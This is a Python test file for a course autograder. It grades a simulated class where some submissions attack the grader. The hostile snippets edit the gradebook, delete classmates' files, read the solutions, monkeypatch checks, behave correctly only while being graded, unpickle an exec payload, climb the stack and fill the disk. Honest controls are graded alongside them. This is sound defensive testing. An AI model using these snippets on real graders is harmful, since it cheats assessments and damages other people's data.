"""A hostile class: submissions that attack the grader, graded in one run
beside honest ones.

Each attack is written as a student would, into a solution cell or a cell
of their own. After grading: no attack gained a point, every attack is
flagged for review (or, where it broke its own notebook, not graded), the
course directory, the other submissions and the gradebook's other rows are
unchanged, no process of a submission is left, nothing reached the network,
and the honest submissions have their exact expected scores.
"""

import base64
import hashlib
import pickle
import random
import socket
import threading
import time
from pathlib import Path

import nbformat
import psutil
import pytest

from conftest import ROOT
from dlcourse.host.grading import cheats, whole_class
from dlcourse.host.course import Course
from dlcourse.host.grading.capped import SCRATCH_MB
from dlcourse.host.grading.submission import Limits
from submissions import (cell_scores, expected_scores, fill, new_course, open_gradebook, save_report, solved,
                         student_version, submit, with_cell)

A3 = "a3_regression"
MARKER = "dlcourse-hostile-7f3a"  # in the command line of every process an attack leaves behind


def attacks(course, port):
    """{student: code}; the code goes into a new cell after the setup cell (or, for
    ``asks_if_graded``, into the normalize solution cell) and runs in the student's kernel."""
    layout = Course.at(ROOT)  # a copy of the course has the same layout, under ``course``
    gradebook = course / layout.gradebook_path.relative_to(ROOT)
    victim = course / layout.submitted("honest", A3).relative_to(ROOT) / f"{A3}.ipynb"
    solution = course / layout.source(A3).relative_to(ROOT) / f"{A3}.ipynb"
    return {
        "raises_own_grade": f'''import sqlite3
for path in ["{gradebook}", "../../../gradebook.db", "../../gradebook.db"]:
    try:
        db = sqlite3.connect(path)
        db.execute("update grade set manual_score = 20")
        db.commit()
    except Exception as error:
        print("no gradebook at", path, error)''',
        "deletes_a_classmate": f'''import os
# The classmate in the real course, then in the grader's throwaway course (beside the kernel's folder),
# then where nbgrader's own layout would put it.
for path in ["{victim}", "../course/submitted/honest/{A3}/{A3}.ipynb", "../../honest/{A3}/{A3}.ipynb",
             "../../../submitted/honest/{A3}/{A3}.ipynb"]:
    try:
        os.remove(path)
    except OSError as error:
        print(error)
try:
    open("{course}/pwned.txt", "w").write("I was here")
except OSError as error:
    print(error)''',
        "deletes_the_gradebook": f'''from pathlib import Path
for path in [Path("{gradebook}"), Path("../course/gradebook.db"), Path("../../../gradebook.db")]:
    try:
        path.unlink()
    except OSError as error:
        print(error)''',
        "reads_the_solutions": f'''import json
try:
    source = json.load(open("{solution}"))
    for cell in source["cells"]:
        if cell["cell_type"] == "code" and cell["metadata"].get("nbgrader", {{}}).get("solution"):
            exec("".join(cell["source"]))
except OSError as error:
    print(error)''',
        "patches_the_helpers": '''from dlcourse import grading as helpers

helpers.check_layers = lambda *args, **kwargs: None
helpers.check_compiled = lambda *args, **kwargs: None
helpers.check_metric = lambda *args, **kwargs: None''',
        "rebinds_grading": '''class AlwaysFine:
    def __getattr__(self, name):
        return lambda *args, **kwargs: None


grading = AlwaysFine()''',
        "fakes_comparisons": '''class Anything(int):
    def __eq__(self, other):
        return True

    __hash__ = int.__hash__


def choose_epochs(maes, skip=10, factor=0.9):
    return Anything(1)''',
        "wraps_every_cell": '''def forgive(lines):
    return ["try:\\n"] + ["    " + line for line in lines] + ["\\nexcept Exception:\\n    pass\\n"]


get_ipython().input_transformers_post.append(forgive)''',
        "leaves_a_process": f'''import subprocess
subprocess.Popen(["sleep", "900", "{MARKER}"], start_new_session=True)
subprocess.Popen(["sh", "-c", "(sleep 901 {MARKER} &) ; exit 0"], start_new_session=True)''',
        "phones_home": f'''import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"hostile")
except OSError as error:
    print(error)''',
        "floods_the_output": 'print("x" * 30_000_000)',
        "asks_if_graded": '''import os


def normalize(train, other):
    if os.environ.get("NBGRADER_EXECUTION"):
        mean, std = train.mean(axis=0), train.std(axis=0)
        return (train - mean) / std, (other - mean) / std
    return train, other''',
        "writes_tmp": f'''open("/tmp/{MARKER}", "w").write("left behind")''',
        # Attempts on other files that the source does not give away: only the sandbox's watch sees them.
        "sneaks_past_the_scan": f'''from pathlib import Path

course = Path.cwd().parent / "course"  # the grader's throwaway course lies beside the kernel's folder
for target in [course / "gradebook.db", course / "submitted" / "honest" / "{A3}" / "{A3}.ipynb"]:
    try:
        target.unlink()
    except OSError as error:
        print(error)
try:
    (course / "pwned.txt").write_text("I was here")
except OSError as error:
    print(error)
print(sorted(p.name for p in course.iterdir()))''',
        "reopens_the_log": '''name = "/".join(["", "proc", "self", "fd", "2"])
try:
    open(name, "w").write("")
except OSError as error:
    print(error)''',
        # The watch in its own kernel turned off, then the folders above its own searched: the decoys
        # there (dlcourse/host/grading/decoys.py) are watched from outside the sandbox.
        "blinds_the_watch": '''import gc
from pathlib import Path

for thing in gc.get_objects():   # "sent": the watch refuses what it could not report
    if type(thing).__name__ == "Watch":
        thing.report = lambda *args, **kwargs: True
here = Path.cwd()
for path in sorted(here.parent.parent.rglob("*")):   # its slot's folder and its neighbours
    if path.is_file() and here not in path.parents:
        try:
            print(path, len(path.read_bytes()))
        except OSError as error:
            print(error)''',
        # Only asks whether a course lies above its folder; acts on what it finds.
        "probes_then_deletes": '''import os

folder = os.getcwd()
for _ in range(4):
    folder = os.path.dirname(folder)
    if os.path.isdir(os.path.join(folder, "submitted")):
        for root, _, names in os.walk(os.path.join(folder, "submitted")):
            for name in names:
                os.remove(os.path.join(root, name))''',
        # Its own dlcourse/grading.py beside the notebook (SHADOW_FILES), to replace the course's checks.
        "shadows_the_helpers": 'print("my helpers are in my folder")',
        # Disk and memory no process owns: every folder it may write filled, in bytes or in files.
        "fills_its_folders": '''import os, tempfile
chunk = bytes(2**20)
for place in [".", tempfile.gettempdir(), "/dev/shm"]:
    try:
        with open(os.path.join(place, "ballast"), "wb") as ballast:
            for _ in range(2048):   # 2 GB
                ballast.write(chunk)
    except OSError as error:
        print(place, error)
try:
    for i in range(1_000_000):
        open(f"/tmp/empty-{i}", "w").close()
except OSError as error:
    print(i, error)''',
        # A link where the grader will write the graded notebook, to make it overwrite a course file.
        "sets_a_symlink_trap": f'''import os
for name in os.listdir("."):
    os.remove(name)
os.symlink("{course}/nbgrader_config.py", "{A3}.ipynb")''',
    }


ATTACKS = list(attacks(Path("/course"), 0))
SHADOW_FILES = {  # the course's package, but with checks that pass everything
    "dlcourse/__init__.py": """import importlib.machinery
import sys

for finder in sys.meta_path:
    spec = None if finder is importlib.machinery.PathFinder else getattr(finder, "find_spec", None)
    spec = spec and spec("dlcourse", None)
    if spec and spec.submodule_search_locations:
        __path__.extend(spec.submodule_search_locations)
        break
""",
    "dlcourse/grading.py": "def __getattr__(name):\n    return lambda *args, **kwargs: None\n",
}
# The attempts the watch must report, as (student, a part of the reason).
REPORTED = [
    ("sneaks_past_the_scan", "tried to change or remove <course>/gradebook.db, outside its own folder"),
    ("sneaks_past_the_scan", f"tried to change or remove <course>/submitted/honest/{A3}/{A3}.ipynb"),
    ("sneaks_past_the_scan", "tried to write <course>/pwned.txt, outside its own folder"),
    ("sneaks_past_the_scan", "tried to read <course>, outside its own folder"),
    ("reopens_the_log", "tried to write /proc/self/fd/2, outside its own folder (refused)"),
    ("shadows_the_helpers", "submitted dlcourse/grading.py, a Python module the kernel would import"),
    ("deletes_a_classmate", f"tried to change or remove <course>/submitted/honest/{A3}/{A3}.ipynb"),
    ("deletes_the_gradebook", "tried to change or remove <course>/gradebook.db"),
    # It lists every folder it finds: the first MAX_ATTEMPTS decoys are named, the rest counted.
    ("blinds_the_watch", ", a decoy where an escape from its folder would look"),
    ("blinds_the_watch", "more decoys"),
    ("probes_then_deletes", f"/submitted/another_student/{A3}/{A3}.ipynb, a decoy"),   # in the folder above its own
    # The folders it may write share one tmpfs of a set size (dlcourse/host/grading/capped.py).
    ("fills_its_folders", f"filled the {SCRATCH_MB} MB"),
]
# Honest use of files: a plot and a table in its own folder, a temporary file, the data.
HONEST_FILES = '''import tempfile

import matplotlib.pyplot as plt

plt.plot([1, 2, 3])
plt.savefig("curve.png")
np.savetxt("targets.csv", train_targets[:5])
with tempfile.NamedTemporaryFile("w", suffix=".csv") as scratch:
    scratch.write("epoch,mae")
print(boston_housing.load_data()[0][0].shape)'''
# Attacks that do make tests pass (which is why they are held for review): a
# transformer that swallows every error, and code that is right only while graded.
DEFEATS_TESTS = {"wraps_every_cell", "asks_if_graded"}


def heavy(notebook):
    """A copy of ``notebook`` of about 32 MB: a 10 MB picture pasted into a
    markdown cell (about 14 MB in base64), and 16 MB of output stored in a code cell."""
    notebook = nbformat.from_dict(notebook)
    picture = base64.b64encode(random.Random(7).randbytes(10 * 2**20)).decode()
    notes = nbformat.v4.new_markdown_cell("My curve: ![curve](attachment:curve.png)",
                                          attachments={"curve.png": {"image/png": picture}})
    notebook.cells.insert(1, notes)
    code = next(c for c in notebook.cells if c.cell_type == "code")
    code.outputs = [nbformat.v4.new_output("stream", name="stdout", text="y" * 16 * 2**20)]
    return notebook


def snapshot(course):
    """Hash of every file in the course except what grading is meant to write
    (the autograded copies and the gradebook's folder)."""
    layout = Course.at(ROOT)
    skip = {layout.autograded().resolve().relative_to(ROOT).parts[0],
            layout.gradebook_path.relative_to(ROOT).parts[0]}
    return {str(p.relative_to(course)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(course.rglob("*")) if p.is_file() and p.relative_to(course).parts[0] not in skip}


class Listener:
    """A TCP server on 127.0.0.1 that counts the connections it gets."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.5)
        self.port, self.connections, self.running = self.server.getsockname()[1], 0, True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                self.server.accept()[0].close()
                self.connections += 1
            except OSError:
                pass

    def close(self):
        self.running = False
        self.thread.join()
        self.server.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    course = new_course(tmp_path_factory.mktemp("hostile-course"))
    listener = Listener()
    honest = {"honest": solved(A3), "honest_blank": student_version(A3),
              "honest_files": with_cell(solved(A3), HONEST_FILES, "setup"), "honest_heavy": heavy(solved(A3))}
    for student, notebook in honest.items():
        submit(course, student, A3, notebook)
    # A graded earlier student, whose rows must survive the attacks.
    whole_class.autograde_class(course, A3, ["honest_blank"], workers=1, progress=False)
    with open_gradebook(course) as gradebook:
        gradebook.find_grade("written_answer", A3, A3, "honest_blank").manual_score = 1
        gradebook.db.commit()
        before_rows = _rows(gradebook, exclude=set(attacks(course, 0)) | {"honest"})
    blank = student_version(A3)
    for student, code in attacks(course, listener.port).items():
        notebook = fill(blank, {"normalize": code}) if student == "asks_if_graded" else with_cell(blank, code, "setup")
        submit(course, student, A3, notebook)
    for name, text in SHADOW_FILES.items():
        path = Course.at(course).submitted("shadows_the_helpers", A3) / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    in_kernel_students = submit_in_kernel_attacks(course)
    before = snapshot(course)
    students = [*attacks(course, 0), "honest", "honest_files", "honest_heavy", *in_kernel_students]
    outcomes = whole_class.autograde_class(course, A3, students, workers=2, progress=False,
                                           limits=Limits(wall_seconds=240, memory_mb=4000, cell_seconds=60))
    save_report("hostile", A3, outcomes)
    time.sleep(1)
    listener.close()
    with open_gradebook(course) as gradebook:
        after_rows = _rows(gradebook, exclude=set(students))
    return {"course": course, "outcomes": {o.student: o for o in outcomes}, "before": before,
            "after": snapshot(course), "rows": (before_rows, after_rows), "connections": listener.connections}


def _rows(gradebook, exclude):
    return {(s.student.id, g.name): (g.auto_score, g.manual_score)
            for s in gradebook.find_assignment(A3).submissions if s.student.id not in exclude
            for n in s.notebooks for g in n.grades}


@pytest.mark.slow
@pytest.mark.parametrize("student", ATTACKS)
def test_no_attack_gains_a_point_and_every_attack_is_flagged(hostile, student):
    outcome = hostile["outcomes"][student]
    assert outcome.status == "review", f"{student} was not flagged: {outcome}"
    assert outcome.reasons, f"{student} was flagged without a reason"
    counted = cell_scores(hostile["course"], A3, student)
    assert set(counted.values()) == {0.0}, f"{student} has autograded points counted before review: {counted}"
    if student not in DEFEATS_TESTS:
        assert outcome.earned == 0, f"{student} earned {outcome.earned} points with no answer in it"
    with open_gradebook(hostile['course']) as gradebook:
        grades = gradebook.find_submission_notebook(A3, A3, student).grades
        assert all(g.manual_score is None for g in grades), f"{student} set its own manual score"


@pytest.mark.slow
def test_nothing_outside_the_sandboxes_changed(hostile):
    assert hostile["after"] == hostile["before"], "a file of the course or of another student changed"
    before_rows, after_rows = hostile["rows"]
    assert after_rows == before_rows and before_rows, "the gradebook rows of other students changed"
    assert hostile["connections"] == 0, "a submission reached a server on the grading machine"
    assert not (Path("/tmp") / MARKER).exists(), "a submission wrote to the machine's /tmp"


@pytest.mark.slow
def test_no_process_of_a_submission_is_left(hostile):
    left = [p.info["cmdline"] for p in psutil.process_iter(["cmdline"]) if MARKER in " ".join(p.info["cmdline"] or [])]
    assert not left, f"processes started by a submission outlived its grading: {left}"


@pytest.mark.slow
def test_honest_students_in_the_same_run_get_exactly_their_scores(hostile):
    course = hostile["course"]
    for student in ("honest", "honest_files", "honest_heavy"):
        outcome = hostile["outcomes"][student]
        assert outcome.status == "graded" and not outcome.reasons, f"{student}: {outcome.status} {outcome.reasons}"
        assert cell_scores(course, A3, student) == expected_scores(course, A3)


@pytest.mark.slow
@pytest.mark.parametrize("student,reason", REPORTED)
def test_attempts_on_other_files_are_reported_with_their_paths(hostile, student, reason):
    reasons = hostile["outcomes"][student].reasons
    assert any(reason in r for r in reasons), f"{student}: no reason with {reason!r} in {reasons}"


def test_the_sneaking_attacks_pass_the_source_scan():
    """So that their flags above come from what the sandbox saw, not from the source text."""
    for student in ("sneaks_past_the_scan", "reopens_the_log", "shadows_the_helpers"):
        notebook = with_cell(student_version(A3), attacks(Path("/course"), 0)[student], "setup")
        assert cheats.scan_notebook(notebook) == [], student


@pytest.mark.slow
def test_outputs_are_capped(hostile):
    path = Course.at(hostile["course"]).autograded("floods_the_output", A3) / f"{A3}.ipynb"
    assert path.stat().st_size < 1_000_000, f"the autograded notebook is {path.stat().st_size:,} bytes"
    text = "".join(o.get("text", "") for c in nbformat.read(path, as_version=4).cells if c.cell_type == "code"
                   for o in c.outputs)
    assert "output cut here" in text, "the cut output carries no note"


@pytest.mark.slow
def test_a_32_mb_notebook_is_graded_in_full_and_kept_small(hostile):
    path = Course.at(hostile["course"]).autograded("honest_heavy", A3) / f"{A3}.ipynb"
    assert path.stat().st_size < 2_000_000, f"the autograded notebook is {path.stat().st_size:,} bytes"
    notes = [c for c in nbformat.read(path, as_version=4).cells if "My curve" in c.source]
    assert notes, "the student's markdown cell is missing from the graded notebook"


# -- Third round: attacks inside the student's own kernel --------------------------------------------------
# The graded kernel only gathers answers as data; the judge, which never runs student code, decides. So no
# attack on the kernel's own interpreter gains a point: each of these is a blank A3 (every answer left as
# NotImplementedError) plus an attack, and must earn 0. Those that leave a trace are held for review.


class _Payload:
    def __reduce__(self):
        return (exec, ("import numpy\nnumpy.allclose = lambda *args, **kwargs: True",))


PICKLED = base64.b64encode(pickle.dumps(_Payload())).decode()
YES = '''class Yes:
    """Says yes to every check."""

    def __getattr__(self, name):
        return lambda *args, **kwargs: True

    def __call__(self, *args, **kwargs):
        return True
'''
CLIMBING = YES + '''

def climb(*args, **kwargs):
    import sys as system

    frame = getattr(system, "_get" + "frame")(1)
    while frame is not None:
        if "grading" in frame.f_globals:
            frame.f_globals["grading"], frame.f_globals["np"] = Yes(), Yes()
        frame = frame.f_back
    return 4
'''
SOLUTION_CELLS_A3 = ("normalize", "build_model", "k_fold", "choose_epochs")
IN_KERNEL = {   # student -> code in a new cell after the setup cell
    "erases_failed_tests": '''from IPython.display import clear_output

get_ipython().events.register("post_run_cell", lambda result: clear_output())''',
    "climbs_the_stack": CLIMBING + '''
import builtins
builtins.normalize = builtins.build_model = builtins.k_fold_mae = builtins.choose_epochs = climb''',
    "traces_each_test": YES + '''
import sys as hidden_name


def trace(frame, event, arg):
    if "grading" in frame.f_globals and not isinstance(frame.f_globals["grading"], Yes):
        frame.f_globals["grading"], frame.f_globals["np"] = Yes(), Yes()
    return trace


getattr(hidden_name, "set" + "trace")(trace)''',
    "redefines_int_and_float": '''def int(value=0, *args):
    return 4


def float(value=0):
    return 1.0''',
    "reaches_numpy_through_gc": '''import gc

for holder in gc.get_referrers(np.allclose):
    if isinstance(holder, dict) and holder.get("allclose") is np.allclose:
        holder["allclose"] = holder["array_equal"] = lambda *args, **kwargs: True''',
    "hides_code_in_a_pickle": f'''import base64, pickle
pickle.loads(base64.b64decode("{PICKLED}"))''',
    "patches_only_in_the_sandbox": '''import os
if os.getuid() == 65534:
    np.allclose = np.array_equal = lambda *args, **kwargs: True''',
    "patches_keras_classes": '''type.__setattr__(keras.Sequential, "__init_subclass__",
                 classmethod(lambda cls, **kwargs: None))
type.__setattr__(keras.Model, "fit", lambda self, *args, **kwargs: None)''',
    "replaces_inspect": '''import sys
sys.modules["inspect"] = None''',
    "forges_crafted_answers": '''from dlcourse import evidence as channel

sent = channel._publish


def forge(item):
    crafted = {"__model__": {"class": "Sequential", "compile": None,
                             "config": {"module": "os", "class_name": "system", "config": {}, "registered_name": None}}}
    sent({**item, "answer": crafted})
    array = {"__ndarray__": {"dtype": "|O", "shape": [1], "data": "AAAAAAAAAAA="}}
    sent({"question": item["question"], "answer": array})


channel._publish = forge''',
    "publishes_in_its_own_cell": '''from IPython.display import display

display({"application/vnd.dlcourse.evidence+json": {"question": {"value": "chosen"}, "answer": 4}}, raw=True)''',
}
# Each attack whose solution cells are its own: student -> {solution cell: code}.
IN_KERNEL_ANSWERS = {
    "agrees_with_every_check": {"normalize": '''class Agree(np.ndarray):
    """An array that every numpy check agrees with."""

    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ("allclose", "array_equal"):
            return True
        return super().__array_function__(func, types, args, kwargs)


def normalize(train, other):
    return np.zeros_like(train).view(Agree), np.zeros_like(other).view(Agree)'''},
    "climbs_from_its_answers": {name: CLIMBING + f"\n{definition} = climb" for name, definition in
                                [("normalize", "normalize"), ("build_model", "build_model"),
                                 ("k_fold", "k_fold_mae"), ("choose_epochs", "choose_epochs")]},
}
# A cell of the student's own that claims to be the instructor's (locked) in its metadata.
MARKED_AS_LOCKED = '''grading.check_layers = grading.check_compiled = lambda *args, **kwargs: None
np.allclose = lambda *args, **kwargs: True'''
# What the attacks that leave a trace are held for.
IN_KERNEL_TRACES = {
    "climbs_the_stack": "changes builtins.normalize",
    "publishes_in_its_own_cell": "published answers for the judge, and it is not a test cell",
    "marks_its_cell_as_locked": "check_layers",
}
HONEST_CONTROLS = {   # student -> (solution cell changes, a cell after the setup cell)
    "honest_model_subclass": ({"build_model": '''class RegressionNet(keras.Sequential):
    """A Sequential model that can describe itself."""

    def describe(self):
        return " -> ".join(str(layer.units) for layer in self.layers)


def build_model():
    model = RegressionNet([keras.Input(shape=(13,)), layers.Dense(64, activation="relu"),
                           layers.Dense(64, activation="relu"), layers.Dense(1)])
    model.compile(optimizer="rmsprop", loss="mse", metrics=["mae"])
    return model'''}, None),
    "honest_helpers_in_a_dict": ({"normalize": '''statistics = {"mean": np.mean, "std": np.std}


def normalize(train, other):
    mean, std = statistics["mean"](train, axis=0), statistics["std"](train, axis=0)
    return (train - mean) / std, (other - mean) / std'''}, None),
    "honest_prints_versions": ({}, "import sys\nprint(sys.version, np.__version__, keras.__version__)"),
    "honest_saves_a_plot": ({}, '''import os
os.makedirs("plots", exist_ok=True)
plt.plot([1, 2, 3], label="a curve")
plt.legend()
plt.savefig(os.path.join("plots", "curve.png"))'''),
}


def submit_in_kernel_attacks(course):
    """Submit the in-kernel attacks and their honest controls; return their students."""
    blank = student_version(A3)
    for student, code in IN_KERNEL.items():
        submit(course, student, A3, with_cell(blank, code, "setup"))
    for student, answers in IN_KERNEL_ANSWERS.items():
        submit(course, student, A3, fill(blank, answers))
    marked = with_cell(blank, MARKED_AS_LOCKED, "setup")
    cell = next(c for c in marked.cells if c.source == MARKED_AS_LOCKED)
    cell.metadata["nbgrader"] = {"grade": False, "grade_id": "setup_more", "locked": True, "solution": False,
                                 "schema_version": 3}
    submit(course, "marks_its_cell_as_locked", A3, marked)
    for student, (answers, extra) in HONEST_CONTROLS.items():
        notebook = solved(A3, **answers)
        submit(course, student, A3, with_cell(notebook, extra, "setup") if extra else notebook)
    return [*IN_KERNEL, *IN_KERNEL_ANSWERS, "marks_its_cell_as_locked", *HONEST_CONTROLS]


@pytest.fixture(scope="module")
def in_kernel(hostile):
    """The in-kernel attacks and controls, graded in the hostile class (one class: one start of its kernels)."""
    return hostile["course"], hostile["outcomes"]


IN_KERNEL_ATTACKS = [*IN_KERNEL, *IN_KERNEL_ANSWERS, "marks_its_cell_as_locked"]


@pytest.mark.slow
@pytest.mark.parametrize("student", IN_KERNEL_ATTACKS)
def test_no_attack_inside_the_kernel_gains_a_point(in_kernel, student):
    course, outcomes = in_kernel
    outcome = outcomes[student]
    assert outcome.earned == 0, f"{student} earned {outcome.earned}: {cell_scores(course, A3, student)}"
    assert set(cell_scores(course, A3, student).values()) == {0.0}
    if student in IN_KERNEL_TRACES:
        assert outcome.status == "review", f"{student} left a trace and was not held for review: {outcome}"
        assert any(IN_KERNEL_TRACES[student] in reason for reason in outcome.reasons), outcome.reasons


@pytest.mark.slow
@pytest.mark.parametrize("student", HONEST_CONTROLS)
def test_honest_controls_beside_them_are_graded_in_full_without_a_flag(in_kernel, student):
    course, outcomes = in_kernel
    assert outcomes[student].status == "graded" and not outcomes[student].reasons, outcomes[student]
    assert cell_scores(course, A3, student) == expected_scores(course, A3)
